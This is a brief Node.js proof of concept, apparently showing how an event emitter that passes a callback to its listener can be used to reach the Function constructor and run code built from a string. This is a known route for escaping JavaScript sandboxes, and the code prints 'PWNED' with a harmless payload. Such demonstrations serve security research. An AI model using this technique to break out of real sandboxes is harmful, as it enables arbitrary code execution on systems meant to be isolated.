// An emitter of its own hands a function to its listener, as one of the arguments of emit.
const { EventEmitter } = require('events');
class Bus extends EventEmitter {
  ask(name, ...args) { return new Promise((r) => this.emit(name, ...args, r)); }
}
const bus = new Bus();
bus.on('field', (obj, key, reply) => reply(obj[key]));
(async () => {
  const c = await bus.ask('field', Bus, 'constructor');
  console.log('PWNED', c('return 1')());
})();
